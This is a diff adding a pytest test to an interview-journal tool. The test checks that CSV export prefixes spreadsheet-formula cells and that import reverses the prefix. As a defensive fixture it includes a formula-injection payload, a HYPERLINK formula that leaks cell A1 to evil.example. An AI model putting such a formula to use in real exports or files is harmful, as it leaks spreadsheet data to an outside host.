@@ -3,14 +3,16 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
+from datetime import date
 from pathlib import Path
 
 import pytest
 from conftest import TODAY, Run
 
-from journal import agenda, load
+from journal import Interview, agenda, load, store
 from journal.exports import CSV_COLUMNS
 from journal.imports import parse_day_loosely
 
@@ -194,3 +196,37 @@ def test_an_interest_that_is_not_an_ascii_digit_from_1_to_5_is_a_bad_row(run: Ru
         assert f"interest.csv:{line}: error: interest " in result.err
     assert "imported 1 interview(s); 0 already in the journal; 4 bad row(s)" in result.out
     assert [iv.interest for iv in load(empty).interviews.values()] == [4]
+
+
+def test_export_csv_never_hands_a_spreadsheet_a_formula_and_import_takes_the_prefix_off(
+    run: Run, empty: Path, tmp_path: Path
+) -> None:
+    hostile = Interview(
+        id="",
+        company='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        role="+SUM(1+1)",
+        date=date(2026, 11, 20),
+        location="@here",
+        next_steps="-2+3 (they said)",
+        body="- asked about on-call\n",
+    )
+    genuine = Interview(id="", company="'Tis Coffee", role="\tBarista", date=date(2026, 11, 21))
+    for record in (hostile, genuine):
+        store.create(empty, dataclasses.replace(record, id=store.interview_id(empty, record)))
+    exported = tmp_path / "out.csv"
+    assert run("-C", empty, "export", "csv", "--out", exported).code == 0
+    rows = list(csv.DictReader(io.StringIO(exported.read_text())))
+    for row in rows:
+        for column in ("company", "role", "location", "next_steps", "notes"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
+    assert rows[0]["company"].startswith("'=HYPERLINK") and rows[1]["company"] == "''Tis Coffee"
+    other = tmp_path / "other"
+    other.mkdir()
+    run("init", other)
+    result = run("-C", other, "import", "csv", exported)
+    assert result.code == 0, result.err
+    back = {interview.role: interview for interview in load(other).interviews.values()}
+    assert back["+SUM(1+1)"].company == hostile.company and back["+SUM(1+1)"].location == "@here"
+    assert back["+SUM(1+1)"].next_steps == "-2+3 (they said)" and back["+SUM(1+1)"].body == hostile.body
+    assert back["\tBarista"].company == "'Tis Coffee"
+    assert run("-C", other, "export", "csv").out == exported.read_text()
